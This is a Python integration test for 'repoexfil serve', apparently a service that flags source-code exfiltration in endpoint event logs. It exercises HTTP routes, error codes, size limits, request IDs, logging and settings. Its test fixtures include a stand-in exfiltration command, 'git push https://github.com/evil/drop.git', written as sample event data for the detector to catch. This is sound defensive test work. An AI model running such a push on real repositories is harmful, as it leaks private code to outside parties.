#!/usr/bin/env python3
"""Every route and every error status of `repoexfil serve`, over loopback:
/healthz, /readyz, /metrics (through `promtool check metrics` when
installed), /version, /rules, /openapi.yaml (byte for byte), POST /events
with notify=false and view=alerts, 400 (with line and column for JSON),
404, 405 + Allow, 413 (Content-Length answered before the body is sent,
chunked overflow, too many events), 415, X-Request-ID echo and
replacement, HEAD, the per-request log line, settings from flags and
environment (flag wins) with start-up errors naming the setting, and the
healthcheck sub-command. Last line: "N passed, M failed".
"""
import json
import os
import shutil
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rxharness import (BIN, SRC, Server, Tally, free_port,  # noqa: E402
                       parse_raw_response, raw_exchange, t)

T = Tally()
JSON = {"Content-Type": "application/json"}

PUSH = {"EventID": 1, "Image": "C:\\Program Files\\Git\\cmd\\git.exe",
        "CommandLine": "git push https://github.com/evil/drop.git",
        "Computer": "WS01", "User": "CORP\\al", "_messageTime": 1700000000123}
QUIET = {"EventID": 1, "Image": "C:\\Windows\\notepad.exe",
         "CommandLine": "notepad a.txt"}
NET = {"EventID": 3, "Image": "C:\\x\\curl.exe",
       "DestinationHostname": "api.github.com"}


def error_of(r):
    j = r.json() or {}
    return j.get("error") if isinstance(j.get("error"), dict) else {}


def check_error(r, status, code, label):
    T.check(r.status == status, label + ": status %d" % status,
            "%d %r" % (r.status, r.body[:200]))
    e = error_of(r)
    T.check(e.get("code") == code and isinstance(e.get("message"), str) and
            e.get("message"), label + ": error code " + code, repr(r.body[:200]))
    T.check(r.header("content-type", ).startswith("application/json"),
            label + ": JSON error body")
    T.check(bool(r.header("x-request-id")), label + ": X-Request-ID")


def test_open_routes(srv):
    r = srv.request("GET", "/healthz")
    T.check(r.status == 200 and r.json() == {"status": "ok"}, "healthz 200",
            repr(r))
    r = srv.request("GET", "/readyz")
    T.check(r.status == 200 and r.json() == {"status": "ready"}, "readyz 200",
            repr(r))
    r = srv.request("GET", "/version")
    j = r.json() or {}
    T.check(r.status == 200 and j.get("name") == "repoexfil" and
            j.get("version") and j.get("git_revision") and
            j.get("build_time") and
            isinstance(j.get("libraries"), dict) and
            "libmicrohttpd" in j["libraries"], "version fields", repr(r))
    r = srv.request("GET", "/rules")
    j = r.json() or {}
    T.check(r.status == 200 and j.get("threshold") == 2 and
            "github.com" in j.get("repo_domains_network", []) and
            "ci_system_regex" in j and "known_ide_regex" in j,
            "rules: defaults", repr(r)[:300])
    r = srv.request("GET", "/openapi.yaml")
    with open(os.path.join(SRC, "openapi", "openapi.yaml"), "rb") as f:
        want = f.read()
    T.check(r.status == 200 and r.body == want and
            "yaml" in (r.header("content-type") or ""),
            "openapi.yaml byte for byte (rebuild after editing it)",
            "%d bytes vs %d" % (len(r.body), len(want)))
    r = srv.request("HEAD", "/healthz")
    T.check(r.status == 200 and r.body == b"" and r.header("x-request-id"),
            "HEAD /healthz", repr(r))


def test_metrics(srv):
    # Something to count first.
    srv.request("POST", "/events?notify=false", json.dumps([PUSH, NET, 5]),
                JSON)
    r = srv.request("GET", "/metrics")
    text = r.body.decode()
    T.check(r.status == 200 and
            (r.header("content-type") or "").startswith("text/plain") and
            "version=0.0.4" in r.header("content-type"),
            "metrics: 200 text/plain version=0.0.4", repr(r.headers))
    for name in ("repoexfil_http_requests_total{route=\"/events\",code=\"200\"}",
                 "repoexfil_http_request_duration_seconds_bucket",
                 "repoexfil_events_evaluated_total",
                 "repoexfil_event_errors_total",
                 "repoexfil_alerts_total{signal=\"GitPushToExternalRepo\"}",
                 "repoexfil_alerts_by_score_total{score=\"3\"}",
                 "repoexfil_worker_queue_depth",
                 "repoexfil_http_requests_in_flight",
                 "repoexfil_build_info{"):
        T.check(name in text, "metrics: has " + name)
    vals = {}
    for line in text.splitlines():
        if line and not line.startswith("#"):
            k, _, v = line.rpartition(" ")
            vals[k] = v
    T.check(float(vals.get("repoexfil_events_evaluated_total", -1)) >= 2 and
            float(vals.get("repoexfil_event_errors_total", -1)) >= 1,
            "metrics: events and errors counted")
    T.check(float(vals.get(
        'repoexfil_alerts_by_score_total{score="2"}', 0)) >= 1,
        "metrics: alerts by score counted")
    promtool = shutil.which("promtool")
    if promtool:
        p = subprocess.run([promtool, "check", "metrics"], input=r.body,
                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                           timeout=60)
        T.check(p.returncode == 0, "metrics: promtool check metrics",
                p.stdout.decode()[:500])
    else:
        print("SKIP promtool not installed")


def test_events(srv):
    body = json.dumps([PUSH, QUIET, "not an event"])
    r = srv.request("POST", "/events", body, JSON)
    j = r.json() or {}
    T.check(r.status == 200 and j.get("received") == 3 and
            j.get("evaluated") == 2 and j.get("errors") == 1 and
            j.get("alert_count") == 1 and len(j.get("results", [])) == 3 and
            j["alerts"][0]["SuspicionScore"] == 3 and
            j["alerts"][0]["Computer"] == "WS01",
            "events: SPEC answer", repr(r)[:300])
    T.check(j.get("request_id") == r.header("x-request-id"),
            "events: request_id is X-Request-ID")
    r = srv.request("POST", "/events?view=alerts", body, JSON)
    j = r.json() or {}
    T.check(r.status == 200 and "results" not in j and
            len(j.get("alerts", [])) == 1, "events: view=alerts", repr(r))
    # With no sink configured the dispatcher logs each alert it gets, with
    # the request id. Alerts differ per request so that suppression of
    # repeats does not hide them; the dispatcher works in order, so once
    # the alert of the request after the dry run is logged, the dry run's
    # would have been too.
    def alert_logged(rid):
        return any(o.get("request_id") == rid
                   for o in srv.log_lines("alert"))

    def one(tag, query, rid):
        ev = dict(PUSH, CommandLine="git push https://github.com/x/%s" % tag)
        return srv.request("POST", "/events" + query, json.dumps([ev]),
                           dict(JSON, **{"X-Request-ID": rid}))

    r = one("dry", "?notify=false&view=alerts", "dry-run-1")
    j = r.json() or {}
    T.check(r.status == 200 and j.get("alert_count") == 1 and
            "results" not in j, "events: notify=false still scores")
    r = one("after", "", "notify-after-1")
    T.check(r.status == 200, "events: notify after the dry run")
    deadline = time.time() + t(10)
    while time.time() < deadline and not alert_logged("notify-after-1"):
        time.sleep(0.05)
    T.check(alert_logged("notify-after-1"),
            "events: alerts handed to the dispatcher (logged: no sink)")
    T.check(not alert_logged("dry-run-1"),
            "events: notify=false hands nothing to the dispatcher")
    for ct, b in (("application/x-ndjson", json.dumps(PUSH) + "\n\n" +
                   json.dumps(QUIET) + "\n"),
                  ("application/jsonl", json.dumps(PUSH) + "\n"),
                  ("text/plain", json.dumps([PUSH])),
                  ("application/octet-stream", json.dumps(PUSH)),
                  ("application/xml",
                   "<Events><Event><System><EventID>1</EventID></System>"
                   "<EventData><Data Name='Image'>C:\\g\\git.exe</Data>"
                   "<Data Name='CommandLine'>git push https://github.com/a/b"
                   "</Data></EventData></Event></Events>"),
                  ("text/xml; charset=utf-8",
                   "<Event><System><EventID>1</EventID></System><EventData>"
                   "<Data Name='Image'>git.exe</Data><Data Name='CommandLine'>"
                   "git push https://gitlab.com/a/b</Data></EventData></Event>")):
        r = srv.request("POST", "/events", b, {"Content-Type": ct})
        j = r.json() or {}
        T.check(r.status == 200 and j.get("alert_count", 0) >= 1 and
                j["alerts"][0]["Signal"] == "GitPushToExternalRepo",
                "events: content type " + ct, repr(r)[:300])
    r = srv.request("POST", "/events", json.dumps(PUSH))  # no Content-Type
    T.check(r.status == 200 and (r.json() or {}).get("alert_count") == 1,
            "events: no Content-Type is sniffed", repr(r)[:200])


def test_errors(srv):
    r = srv.request("POST", "/events", '[{"EventID": 1,\n  "Image": }]', JSON)
    check_error(r, 400, "bad_json", "bad JSON")
    e = error_of(r)
    T.check(e.get("line") == 2 and isinstance(e.get("column"), int) and
            e["column"] >= 1, "bad JSON: line 2 and a column", repr(e))
    r = srv.request("POST", "/events", "<Events><Event></Events>",
                    {"Content-Type": "application/xml"})
    T.check(r.status == 400 or (r.status == 200 and
                                (r.json() or {}).get("errors") == 1),
            "bad XML: 400 or a per-event error", repr(r)[:200])
    r = srv.request("POST", "/events", "", JSON)
    check_error(r, 400, "empty_body", "empty body")
    r = srv.request("POST", "/events", "[1", JSON)
    check_error(r, 400, "bad_json", "truncated JSON")
    r = srv.request("POST", "/events", "a=b",
                    {"Content-Type": "application/x-www-form-urlencoded"})
    check_error(r, 415, "unsupported_media_type", "415 form")
    r = srv.request("POST", "/events", "<html/>", {"Content-Type":
                                                    "text/html"})
    check_error(r, 415, "unsupported_media_type", "415 html")
    for path in ("/nope", "/events/", "/", "/metrics/x"):
        r = srv.request("GET", path)
        check_error(r, 404, "not_found", "404 " + path)
    r = srv.request("POST", "/nope", "{}", JSON)
    check_error(r, 404, "not_found", "404 POST")
    for method, path, allow in (("GET", "/events", "POST"),
                                ("PUT", "/events", "POST"),
                                ("DELETE", "/events", "POST"),
                                ("POST", "/healthz", "GET, HEAD"),
                                ("POST", "/metrics", "GET, HEAD"),
                                ("PUT", "/rules", "GET, HEAD"),
                                ("DELETE", "/version", "GET, HEAD"),
                                ("POST", "/openapi.yaml", "GET, HEAD"),
                                ("GET", "/alerts/test", "POST")):
        r = srv.request(method, path, "{}" if method in ("POST", "PUT")
                        else None, JSON if method in ("POST", "PUT") else {})
        check_error(r, 405, "method_not_allowed", "405 %s %s" % (method, path))
        T.check(r.header("allow") == allow, "405 %s %s: Allow" % (method, path),
                repr(r.header("allow")))


def test_limits():
    srv = Server("--max-body-bytes", "1000", "--max-events", "3",
                 name="limits")
    try:
        r = srv.request("POST", "/events", json.dumps([QUIET] * 4), JSON)
        check_error(r, 413, "too_many_events", "413 too many events (array)")
        r = srv.request("POST", "/events", "\n".join(
            json.dumps({"EventID": 1}) for _ in range(5)),
            {"Content-Type": "application/x-ndjson"})
        check_error(r, 413, "too_many_events", "413 too many events (NDJSON)")
        r = srv.request("POST", "/events", json.dumps([QUIET] * 3), JSON)
        T.check(r.status == 200, "max events exactly is fine", repr(r))
        r = srv.request("POST", "/events", "[" + " " * 2000 + "]", JSON)
        check_error(r, 413, "body_too_large", "413 body over the cap")
        # Content-Length over the cap: the answer comes before any body
        # byte is sent.
        t0 = time.time()
        raw = raw_exchange(srv.port, b"POST /events HTTP/1.1\r\nHost: x\r\n"
                           b"Content-Type: application/json\r\n"
                           b"Content-Length: 5000000000\r\n\r\n",
                           read_timeout=5)
        st, hd, body = parse_raw_response(raw)
        T.check(st == 413 and b"body_too_large" in body and
                hd.get("x-request-id"),
                "413 answered before the body is sent", repr(raw[:300]))
        T.check(time.time() - t0 < t(4),
                "413 before the body: no wait for it")
        # Expect: 100-continue: 413 instead of 100.
        raw = raw_exchange(srv.port, b"POST /events HTTP/1.1\r\nHost: x\r\n"
                           b"Content-Length: 2000\r\nExpect: 100-continue"
                           b"\r\n\r\n", read_timeout=5)
        T.check(raw.startswith(b"HTTP/1.1 413"), "413 instead of 100-continue",
                repr(raw[:100]))
        # Chunked: no Content-Length, the cap is passed while reading; the
        # rest is drained and 413 answered at the end.
        chunk = b"x" * 512
        body = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk)
                        for _ in range(8)) + b"0\r\n\r\n"
        raw = raw_exchange(srv.port, b"POST /events HTTP/1.1\r\nHost: x\r\n"
                           b"Content-Type: application/json\r\n"
                           b"Transfer-Encoding: chunked\r\n\r\n" + body,
                           read_timeout=5)
        st, hd, body = parse_raw_response(raw)
        T.check(st == 413 and b"body_too_large" in body,
                "413 for a chunked body over the cap", repr(raw[:200]))
        # A chunked body under the cap is fine.
        ev = json.dumps([PUSH]).encode()
        raw = raw_exchange(srv.port, b"POST /events HTTP/1.1\r\nHost: x\r\n"
                           b"Content-Type: application/json\r\n"
                           b"Connection: close\r\n"
                           b"Transfer-Encoding: chunked\r\n\r\n" +
                           b"%x\r\n%s\r\n0\r\n\r\n" % (len(ev), ev),
                           read_timeout=5)
        st, hd, body = parse_raw_response(raw)
        T.check(st == 200 and b'"alert_count":1' in body,
                "chunked body under the cap", repr(raw[:200]))
        r = srv.request("GET", "/healthz")
        T.check(r.status == 200, "still healthy after the limits")
    finally:
        T.stopped_cleanly(srv, "limits")


def test_request_id(srv):
    for rid in ("abc-123", "siem.7f3a9c:42_x", "A" * 128):
        r = srv.request("POST", "/events", "[]", dict(JSON, **{
            "X-Request-ID": rid}))
        T.check(r.header("x-request-id") == rid and
                (r.json() or {}).get("request_id") == rid,
                "X-Request-ID %r echoed" % rid[:20], repr(r.headers))
        r = srv.request("GET", "/nope", None, {"X-Request-ID": rid})
        T.check(r.header("x-request-id") == rid,
                "X-Request-ID %r echoed on 404" % rid[:20])
    seen = set()
    for rid in ("A" * 129, "has space", "quote\"s", "semi;colon", "",
                "slash/x", "caf\u00e9".encode("utf-8").decode("latin-1")):
        r = srv.request("POST", "/events", "[]", dict(JSON, **{
            "X-Request-ID": rid}))
        got = r.header("x-request-id") or ""
        T.check(got and got != rid and len(got) <= 128 and
                (r.json() or {}).get("request_id") == got,
                "insane X-Request-ID %r replaced" % rid[:20], got)
        seen.add(got)
    r = srv.request("GET", "/healthz")
    seen.add(r.header("x-request-id"))
    T.check(len(seen) == 8, "new request ids are unique")


def test_logs(srv):
    rid = "log-check-1"
    srv.request("POST", "/events", json.dumps([PUSH, QUIET, 1]),
                dict(JSON, **{"X-Request-ID": rid}))
    deadline = time.time() + t(5)
    line = None
    while time.time() < deadline and line is None:
        for o in srv.log_lines("request"):
            if o.get("request_id") == rid:
                line = o
        time.sleep(0.05)
    T.check(line is not None, "one request log line per request")
    if line:
        for k, v in (("method", "POST"), ("route", "/events"),
                     ("status", 200), ("received", 3), ("evaluated", 2),
                     ("errors", 1), ("alerts", 1)):
            T.check(line.get(k) == v, "log line: %s" % k, repr(line))
        T.check(isinstance(line.get("duration_ms"), (int, float)) and
                line.get("time") and line.get("level"),
                "log line: time, level, duration", repr(line))
    T.check(all(isinstance(o, dict) for o in srv.logs) and
            all(ln.startswith("{") for ln in srv.lines),
            "every stderr line is a JSON object")


def test_settings():
    # Environment, then a flag that wins over it.
    srv = Server(env={"REPOEXFIL_THRESHOLD": "3",
                      "REPOEXFIL_MAX_EVENTS": "2"}, name="env")
    try:
        r = srv.request("GET", "/rules")
        T.check((r.json() or {}).get("threshold") == 3,
                "REPOEXFIL_THRESHOLD applies")
        r = srv.request("POST", "/events", json.dumps([QUIET] * 3), JSON)
        T.check(r.status == 413, "REPOEXFIL_MAX_EVENTS applies")
    finally:
        T.stopped_cleanly(srv, "env")
    srv = Server("--threshold=1", "--max-events", "5",
                 env={"REPOEXFIL_THRESHOLD": "3",
                      "REPOEXFIL_MAX_EVENTS": "2"}, name="flag")
    try:
        r = srv.request("GET", "/rules")
        T.check((r.json() or {}).get("threshold") == 1,
                "--threshold=1 wins over the environment")
        r = srv.request("POST", "/events", json.dumps([NET] * 3), JSON)
        j = r.json() or {}
        T.check(r.status == 200 and j.get("threshold") == 1 and
                j.get("alert_count") == 3, "--max-events 5 wins", repr(r))
    finally:
        T.stopped_cleanly(srv, "flag")
    # A rules file, and --threshold over it.
    import tempfile
    with tempfile.NamedTemporaryFile("w", suffix=".json",
                                     delete=False) as f:
        json.dump({"threshold": 3, "git_images": ["git.exe", "mygit.exe"]}, f)
        rules = f.name
    try:
        srv = Server("--rules", rules, name="rules")
        try:
            j = srv.request("GET", "/rules").json() or {}
            T.check(j.get("threshold") == 3 and
                    "mygit.exe" in j.get("git_images", []),
                    "--rules applies", repr(j)[:200])
        finally:
            T.stopped_cleanly(srv, "rules")
        srv = Server("--rules", rules, "--threshold", "2", name="rules2")
        try:
            j = srv.request("GET", "/rules").json() or {}
            T.check(j.get("threshold") == 2, "--threshold wins over rules")
        finally:
            T.stopped_cleanly(srv, "rules2")
    finally:
        os.unlink(rules)
    # Bad settings stop start-up with a message naming the setting.
    for argv, env, name in (
            (["--workers", "0"], {}, "--workers"),
            (["--workers=abc"], {}, "--workers"),
            ([], {"REPOEXFIL_WORKERS": "-1"}, "REPOEXFIL_WORKERS"),
            (["--threshold", "4"], {}, "threshold"),
            (["--max-body-bytes", "x"], {}, "--max-body-bytes"),
            (["--log-level", "loud"], {}, "--log-level"),
            (["--listen", "nowhere"], {}, "--listen"),
            (["--allow-query-token", "maybe"], {}, "unexpected argument"),
            (["--no-such-flag", "1"], {}, "--no-such-flag"),
            (["--rules", "/nonexistent/rules.json"], {}, "--rules"),
            (["--drain-seconds", "0"], {}, "--drain-seconds"),
            (["--queue-depth", "0"], {}, "--queue-depth")):
        full = dict(os.environ)
        for k in list(full):
            if k.startswith("REPOEXFIL_"):
                del full[k]
        full.update(env)
        p = subprocess.run([BIN, "serve", "--listen", "127.0.0.1:0"] + argv
                           if "--listen" not in argv else [BIN, "serve"] + argv,
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           env=full, timeout=t(30))
        err = p.stderr.decode()
        T.check(p.returncode == 2 and name in err,
                "bad setting %s: exit 2 naming it" % " ".join(argv or
                                                             list(env)),
                "rc %d: %s" % (p.returncode, err[-300:]))


def test_port_in_use(srv):
    env = {k: v for k, v in os.environ.items()
           if not k.startswith("REPOEXFIL_")}
    p = subprocess.run([BIN, "serve", "--listen", "127.0.0.1:%d" % srv.port],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       env=env, timeout=t(30))
    err = p.stderr.decode()
    T.check(p.returncode == 1 and "cannot start the HTTP server" in err,
            "a port in use stops start-up with exit 1",
            "rc %d: %s" % (p.returncode, err[-300:]))
    T.check(srv.request("GET", "/healthz").status == 200,
            "the first server still serves")


def test_healthcheck(srv):
    p = subprocess.run([BIN, "healthcheck", "--listen",
                        "0.0.0.0:%d" % srv.port], stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, timeout=t(30))
    T.check(p.returncode == 0, "healthcheck: 0 while serving",
            p.stderr.decode())
    env = dict(os.environ, REPOEXFIL_LISTEN="127.0.0.1:%d" % srv.port)
    p = subprocess.run([BIN, "healthcheck"], stdout=subprocess.PIPE,
                       stderr=subprocess.PIPE, timeout=t(30), env=env)
    T.check(p.returncode == 0, "healthcheck: REPOEXFIL_LISTEN",
            p.stderr.decode())
    p = subprocess.run([BIN, "healthcheck", "--listen",
                        "127.0.0.1:%d" % free_port(), "--timeout", "2"],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       timeout=t(30))
    T.check(p.returncode == 1, "healthcheck: 1 when nothing listens")


def test_idle_timeout():
    srv = Server("--connection-timeout", "1", name="idle")
    try:
        s = socket.create_connection(("127.0.0.1", srv.port))
        s.sendall(b"POST /events HTTP/1.1\r\nHost: x\r\nContent-Length: 100"
                  b"\r\n\r\n[")  # then nothing: a slow client
        s.settimeout(t(10))
        t0 = time.time()
        try:
            data = s.recv(100)
        except OSError:
            data = b""
        T.check(data == b"" and time.time() - t0 < t(6),
                "an idle client is dropped after --connection-timeout",
                repr(data[:100]))
        s.close()
        r = srv.request("GET", "/healthz")
        T.check(r.status == 200, "healthy after dropping an idle client")
    finally:
        T.stopped_cleanly(srv, "idle")


def main():
    srv = Server("--workers", "2", name="routes")
    try:
        test_open_routes(srv)
        test_events(srv)
        test_metrics(srv)
        test_errors(srv)
        test_request_id(srv)
        test_logs(srv)
        test_healthcheck(srv)
        test_port_in_use(srv)
    finally:
        T.stopped_cleanly(srv, "routes")
    test_limits()
    test_settings()
    test_idle_timeout()
    return T.finish()


if __name__ == "__main__":
    sys.exit(main())
